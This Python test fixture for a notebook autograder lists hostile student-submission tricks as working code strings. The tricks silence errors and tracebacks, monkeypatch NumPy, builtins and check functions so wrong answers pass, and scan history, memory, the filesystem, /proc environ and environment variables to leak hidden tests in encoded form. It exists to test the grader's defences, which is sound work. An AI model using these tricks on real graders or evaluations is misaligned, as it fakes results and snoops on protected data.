"""A catalogue of hostile tricks, as a student trying to game the grader would write them.

Each :class:`Trick` is code a student puts into a submission: at the top of the first solution
cell (``where="first"``: it runs before any test) or in a cell of its own at the end
(``where="last"``: it runs after every test, and would see what the tests left behind). The
tests (``tests/test_hostile.py``) add each trick to a stub, a wrong and a correct submission and
grade them with the real ``nbgrader``/``graders autograde``:

``hide``      changes how the kernel runs or reports cells (exception handlers, traceback
              printing, input/AST transformers, event hooks, builtins): must change no score.
``patch``     replaces functions the tests use (``dlworkshop.checks``, NumPy, builtins) or makes
              answers that claim to be right: must change no score.
``readback``  looks for the hidden tests wherever a kernel could (input history, frames, ``gc``,
              files, the grading agent) and prints what it finds, reversed and base64-encoded:
              nothing of the hidden tests may appear in any output or feedback.

Tricks print a marker (``trick <name> ran``) so a test can check that they really ran. None of
them is tuned to this course's internals beyond what a student could read in the release
notebook and the public ``graders`` package.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from graders import notebooks


@dataclass(frozen=True)
class Trick:
    """One hostile trick (see the module docstring)."""

    name: str
    kind: str  # "hide", "patch" or "readback"
    code: str
    where: str = "first"  # "first" (top of the first solution cell) or "last" (a cell at the end)


def _marker(name: str) -> str:
    return f"print('trick {name} ran')\n"


_DUMP = '''
def _dump(found):
    import base64
    text = "\\n".join(str(x) for x in found)
    print("FOUND", text)
    print("REVERSED", text[::-1])
    print("BASE64", base64.b64encode(text.encode()).decode())
    print("SPLIT", "\\n".join(text[i:i + 7] for i in range(0, len(text), 7)))
'''

TRICKS: tuple[Trick, ...] = (
    # ------------------------------------------------------------------ hide: reporting
    Trick("custom-exc", "hide", """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""),
    Trick("showtraceback", "hide", """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda self, *a, **k: None
InteractiveShell.showsyntaxerror = lambda self, *a, **k: None
get_ipython().showtraceback = lambda *a, **k: None
"""),
    Trick("input-transformer", "hide", """
def _neuter(lines):
    text = "".join(lines)
    if "assert" in text or "check" in text:
        return ["pass\\n"]
    return lines
get_ipython().input_transformers_post.append(_neuter)
get_ipython().input_transformers_cleanup.append(_neuter)
"""),
    Trick("ast-transformer", "hide", """
import ast as _ast
class _Swallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None,
                                     body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[],
                              finalbody=[])]
        return _ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())
"""),
    Trick("post-run-hook", "hide", """
def _clear(result):
    result.error_in_exec = None
    result.error_before_exec = None
get_ipython().events.register("post_run_cell", _clear)
get_ipython().events.register("pre_run_cell", lambda info: None)
"""),
    Trick("run-cell-wrapper", "hide", """
_ip = get_ipython()
_orig_run_cell = _ip.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    result = _orig_run_cell("try:\\n" + "".join("    " + l + "\\n" for l in raw_cell.splitlines())
                            + "    pass\\nexcept BaseException:\\n    pass", *args, **kwargs)
    return result
_ip.run_cell = _run_cell
"""),
    Trick("builtins-assertion", "hide", """
import builtins
class _Never(Exception):
    pass
builtins.AssertionError = _Never
builtins.NotImplementedError = _Never
builtins.NameError = _Never
"""),
    Trick("excepthook", "hide", """
import sys
sys.excepthook = lambda *a: None
sys.displayhook = lambda *a: None
sys.stderr = sys.stdout
"""),
    Trick("exit-on-error", "hide", """
import sys
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: sys.stdout.write("all good\\n"))
"""),
    # ------------------------------------------------------------------ patch: helpers
    Trick("patch-checks", "patch", """
from dlworkshop import checks as _c
for _name in dir(_c):
    if _name.startswith("check_"):
        setattr(_c, _name, lambda *a, **k: 0.0)
"""),
    Trick("patch-numpy", "patch", """
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, bool)
_np.testing.assert_allclose = lambda *a, **k: None
_np.all = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
"""),
    Trick("patch-sys-modules", "patch", """
import sys, types
_fake = types.ModuleType("dlworkshop.checks")
_fake.__getattr__ = lambda name: (lambda *a, **k: 0.0)
sys.modules["dlworkshop.checks"] = _fake
import dlworkshop
dlworkshop.checks = _fake
"""),
    Trick("patch-builtins", "patch", """
import builtins
_isinstance, _abs = builtins.isinstance, builtins.abs
def _lying_isinstance(obj, cls):
    names = [getattr(c, "__module__", "") for c in (cls if _isinstance(cls, tuple) else (cls,))]
    if any(n.split(".")[0] in ("numpy", "torch", "sklearn", "dlworkshop") for n in names):
        return True
    return _isinstance(obj, cls)
builtins.isinstance = _lying_isinstance
builtins.abs = lambda x: 0.0 if _isinstance(x, float) else _abs(x)
"""),
    Trick("always-right-results", "patch", """
import functools
import numpy as _np
class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 0
class _YesArray(_np.ndarray):
    def __eq__(self, other): return _np.ones(_np.shape(self), bool)
    def __array_finalize__(self, obj): pass
def _always_right(f):
    @functools.wraps(f)
    def inner(*a, **k):
        try:
            result = f(*a, **k)
        except BaseException:
            return _Yes(0.0)
        if isinstance(result, float):
            return _Yes(result)
        if isinstance(result, _np.ndarray):
            return result.view(_YesArray)
        return result
    inner._wrapped_by_trick = True
    return inner
_ip = get_ipython()
def _wrap_all(result=None):
    for _k, _v in list(_ip.user_ns.items()):
        if (callable(_v) and getattr(_v, "__module__", "") == "__main__" and not _k.startswith("_")
                and not getattr(_v, "_wrapped_by_trick", False) and not isinstance(_v, type)):
            _ip.user_ns[_k] = _always_right(_v)
_ip.events.register("post_run_cell", _wrap_all)
"""),
    Trick("agent-tamper", "patch", """
import sys
def _tamper():
    agent = sys.modules.get("_graders_wire")
    if agent is None:
        print("agent-tamper: no agent module")
        return
    _orig_error = agent.Agent._error
    agent.Agent._error = staticmethod(lambda err: None)
    print("agent-tamper: replaced the agent's error reporting")
_tamper()
"""),
    # ------------------------------------------------------------------ readback
    Trick("history", "readback", _DUMP + """
_ip = get_ipython()
_found = [c for c in _ip.user_ns.get("In", []) + _ip.user_ns.get("_ih", [])
          if "HIDDEN" in c or "assert" in c or "check" in c]
_found += [str(s) for s in _ip.history_manager.input_hist_raw]
try:
    _found += [row[2] for row in _ip.history_manager.get_range(raw=True)]
except Exception as err:
    print("history db:", type(err).__name__)
_dump(_found)
""", where="last"),
    Trick("history-hook", "readback", _DUMP + """
_seen = []
def _grab(info=None, *rest):
    cell = getattr(info, "raw_cell", None) or getattr(getattr(info, "info", None), "raw_cell", "")
    if cell and "_graders" not in cell:
        _seen.append(cell)
get_ipython().events.register("pre_run_cell", _grab)
get_ipython().events.register("post_run_cell", _grab)
def _report(result):
    _dump([s for s in _seen if "HIDDEN" in s or "assert " in s])
get_ipython().events.register("post_run_cell", _report)
"""),
    Trick("frames", "readback", _DUMP + """
import functools, sys, types
_frames_seen = []
def _look_around(f):
    @functools.wraps(f)
    def inner(*a, **k):
        frame = sys._getframe(1)
        while frame is not None:
            for value in list(frame.f_locals.values())[:100]:
                if isinstance(value, str) and ("HIDDEN" in value or "SECRET" in value
                                               or "assert " in value):
                    _frames_seen.append(value[:5000])
            frame = frame.f_back
        return f(*a, **k)
    inner._looked = True
    return inner
_ip = get_ipython()
def _wrap_and_report(result=None):
    for _k, _v in list(_ip.user_ns.items()):
        if (isinstance(_v, types.FunctionType) and _v.__module__ == "__main__"
                and not _k.startswith("_") and not getattr(_v, "_looked", False)):
            _ip.user_ns[_k] = _look_around(_v)
    if _frames_seen:
        _dump(_frames_seen)
_ip.events.register("post_run_cell", _wrap_and_report)
"""),
    Trick("gc-scan", "readback", _DUMP + """
import gc
_found = []
for _obj in gc.get_objects():
    try:
        if isinstance(_obj, str) and ("HIDDEN TESTS" in _obj or "SECRET" in _obj):
            _found.append(_obj[:3000])
        elif isinstance(_obj, dict):
            for _v in list(_obj.values())[:50]:
                if isinstance(_v, str) and "HIDDEN TESTS" in _v:
                    _found.append(_v[:3000])
    except Exception:
        pass
_dump(_found)
""", where="last"),
    Trick("files", "readback", _DUMP + """
import glob, os, time
_found = []
_here = os.getcwd()
print("files: cwd", _here, sorted(os.listdir(_here))[:20])
_paths = []
for _pattern in ("*.ipynb", "../*.ipynb", "../../*/*/*.ipynb", "../../../source/*/*.ipynb",
                 os.path.expanduser("~/*.ipynb"), "/proc/1/cwd/*.ipynb", "../../../gradebook.db"):
    _paths += glob.glob(_pattern)[:50]
_until = time.monotonic() + 15  # the whole disk, for as long as a cell may safely run
for _dir, _subdirs, _names in os.walk("/"):
    if _dir.startswith(("/proc", "/sys", "/dev")):
        _subdirs[:] = []
    _paths += [os.path.join(_dir, n) for n in _names if n.endswith((".ipynb", "gradebook.db"))]
    if time.monotonic() > _until:
        print("files: search stopped at", _dir)
        break
for _path in _paths[:500]:
    try:
        _text = open(_path, errors="replace").read()
    except OSError as err:
        print("files: cannot read", _path, type(err).__name__)
        continue
    print("files: read", _path, len(_text))
    if "HIDDEN" in _text and "site-packages" not in _path:  # not nbgrader's own examples
        _found.append(_text[:5000])
_dump(_found)
""", where="last"),
    Trick("proc-snoop", "readback", _DUMP + """
import os
_found = []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    for _what in ("cmdline", "environ"):
        try:
            _data = open(f"/proc/{_pid}/{_what}", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if "HIDDEN" in _data or "nbgrader" in _data or "gradebook" in _data:
            _found.append(f"{_pid} {_what}: {_data[:2000]}")
print("proc-snoop: saw", len([p for p in os.listdir("/proc") if p.isdigit()]), "processes")
_dump(_found)
""", where="last"),
    Trick("agent-snoop", "readback", _DUMP + """
import sys
_agent = sys.modules.get("_graders_wire")
_found = []
if _agent is not None and getattr(_agent, "_agent", None) is not None:
    _a = _agent._agent
    _found += [repr(v)[:2000] for v in _a.objects.values()]
    print("agent-snoop: the agent holds", len(_a.objects), "objects")
_dump([f for f in _found if "HIDDEN" in f or "assert" in f])
""", where="last"),
    Trick("recorder", "readback", _DUMP + """
import sys, threading
_calls = []
def _record(frame, event, arg):
    # every Python call of every thread from here on, with its source file and the short text
    # values it holds; never raises (an error would switch the profiler off)
    if event != "call" or len(_calls) > 200_000:
        return None
    try:
        _texts = [v[:300] for v in list(frame.f_locals.values()) if isinstance(v, (str, bytes))]
        _calls.append(frame.f_code.co_filename + " " + repr(_texts)[:600])
    except Exception:
        pass
    return None
threading.setprofile_all_threads(_record) if hasattr(threading, "setprofile_all_threads") \
    else threading.setprofile(_record)
sys.setprofile(_record)
def _report(result):
    print("recorder: calls seen", len(_calls))
    _dump([c for c in _calls if "HIDDEN" in c or "SECRET" in c])
get_ipython().events.register("post_run_cell", _report)
"""),
    Trick("env-and-args", "readback", _DUMP + """
import os, sys
_found = [f"{k}={v}" for k, v in os.environ.items()]
_found += sys.argv
_dump([f for f in _found if "HIDDEN" in f or "gradebook" in f or "source" in f])
""", where="last"),
)


def by_name(name: str) -> Trick:
    """The trick called ``name``."""
    for trick in TRICKS:
        if trick.name == name:
            return trick
    raise KeyError(name)


def with_trick(nb: NotebookNode, trick: Trick) -> NotebookNode:
    """A copy of the submission ``nb`` with ``trick`` added where it says."""
    nb = copy.deepcopy(nb)
    code = _marker(trick.name) + trick.code.lstrip("\n")
    if trick.where == "last":
        nb.cells.append(new_code_cell(code))
        return nb
    cell = next(c for c in nb.cells if notebooks.is_solution(c) and c.cell_type == "code")
    cell.source = code + "\n" + cell.source
    return nb
